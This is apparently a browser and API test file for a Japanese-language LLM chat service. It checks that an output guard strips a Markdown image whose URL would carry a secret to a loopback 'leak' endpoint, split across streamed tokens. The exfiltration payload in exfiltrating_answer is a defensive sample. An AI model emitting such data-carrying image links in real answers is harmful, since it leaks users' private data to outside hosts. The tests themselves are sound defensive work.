"""A Markdown image exfiltration in a model's answer is neutralised before it is rendered: in a
real headless Chromium against the live app, the engine's answer carries
``![x](http://127.0.0.1:<port>/leak?d=...)`` split over several tokens, where <port> is a small
server of this test that records every request it gets. The page shows the marker, the server
hears nothing, the stored answer and the audit record say what was removed, and the /v1 face
returns no such URL either."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, expect

from tests.support.browser import sign_in
from tests.support.fake_upstream import Script
from tests.web.conftest import MODEL, PASSWORD, Live

pytestmark = [pytest.mark.browser]
SECRET = "jyumin-tanaka-taro-090-1234-5678"
MARKER = "〔外部画像を削除しました〕"


@dataclass
class Recorder:
    """An HTTP server on loopback that answers 200 to anything and keeps each request line."""

    requests: list[str] = field(default_factory=list)
    server: asyncio.Server | None = None

    @property
    def port(self) -> int:
        assert self.server is not None
        return int(self.server.sockets[0].getsockname()[1])

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = await reader.readline()
        self.requests.append(line.decode(errors="replace").strip())
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        await writer.drain()
        writer.close()


@pytest_asyncio.fixture(loop_scope="session")
async def recorder() -> AsyncIterator[Recorder]:
    recorder = Recorder()
    recorder.server = await asyncio.start_server(recorder.handle, "127.0.0.1", 0)
    yield recorder
    recorder.server.close()
    await recorder.server.wait_closed()


@pytest_asyncio.fixture(loop_scope="session")
async def page(browser: Browser) -> AsyncIterator[Page]:
    context = await browser.new_context(locale="ja-JP")
    page = await context.new_page()
    yield page
    await context.close()


def exfiltrating_answer(port: int) -> tuple[str, ...]:
    """The image cut where an engine's tokens might cut it: inside the brackets, the host,
    the port and the query."""
    return (
        "集計しました。",
        "![",
        "x](http://127.0.0",
        f".1:{port}/le",
        "ak?d=",
        SECRET,
        ")",
        " 以上です。",
    )


async def test_an_image_carrying_data_never_reaches_the_browser(
    live: Live, page: Page, recorder: Recorder
) -> None:
    leak = f"127.0.0.1:{recorder.port}/leak"
    live.script = Script(content=exfiltrating_answer(recorder.port), delay=0.02)
    username = await live.new_user()
    await sign_in(page, live.base_url, username, PASSWORD)
    await expect(page.locator("#composer-input")).to_be_visible()
    await page.select_option("#model-select", MODEL)
    await page.fill("#composer-input", "住民の一覧を集計して")
    await page.click("#send")

    answer = page.locator(".message.assistant").last
    await expect(answer).to_have_attribute("data-status", "complete")
    await expect(answer.locator(".answer")).to_have_text(f"集計しました。{MARKER} 以上です。")
    assert await answer.locator("img").count() == 0
    await asyncio.sleep(0.5)  # time for any request the page might still make
    assert recorder.requests == []
    assert leak not in await page.content()
    assert SECRET not in await page.content()

    # The stored answer is the one shown, and reopening it shows the marker again.
    await expect(page).to_have_url(re.compile(r"\?c=\w+"))
    conversation = re.search(r"[?&]c=([^&#]+)", page.url)
    assert conversation is not None
    async with live.signed_in(username) as client:
        stored = await client.get(f"/api/conversations/{conversation.group(1)}/messages")
    assert stored.status_code == 200, stored.text
    [reply] = [m for m in stored.json()["messages"] if m["role"] == "assistant"]
    assert reply["content"] == f"集計しました。{MARKER} 以上です。"
    await page.reload()
    await expect(page.locator(".message.assistant").last.locator(".answer")).to_have_text(
        f"集計しました。{MARKER} 以上です。"
    )

    user = await live.user_row(username)
    [record] = await live.audit_when_written(user.id)
    decisions = [d for d in json.loads(record.decisions) if d["stage"] == "guard.output"]
    assert decisions == [
        {
            "stage": "guard.output",
            "action": "neutralise",
            "rule_id": "guard.output.external-link",
            "host": "127.0.0.1",
            "kind": "image",
            "reason": "host",
            "where": "answer",
        }
    ]
    await asyncio.sleep(0.2)
    assert recorder.requests == []


@pytest.mark.parametrize("stream", [False, True])
async def test_the_api_face_returns_no_such_url(
    live: Live, recorder: Recorder, stream: bool
) -> None:
    live.script = Script(content=exfiltrating_answer(recorder.port))
    body = {
        "model": MODEL,
        "stream": stream,
        "messages": [{"role": "user", "content": "住民の一覧を集計して"}],
    }
    headers = {"authorization": f"Bearer {await live.api_key()}"}
    async with httpx.AsyncClient(base_url=live.base_url, timeout=30) as client:
        response = await client.post("/v1/chat/completions", json=body, headers=headers)
    assert response.status_code == 200, response.text
    if stream:
        chunks = [
            json.loads(line[len("data: ") :])
            for line in response.text.splitlines()
            if line.startswith("data: {")
        ]
        text = "".join(
            c["choices"][0]["delta"].get("content") or "" for c in chunks if c["choices"]
        )
    else:
        text = response.json()["choices"][0]["message"]["content"]
    assert text == f"集計しました。{MARKER} 以上です。"
    assert str(recorder.port) not in response.text
    assert SECRET not in response.text
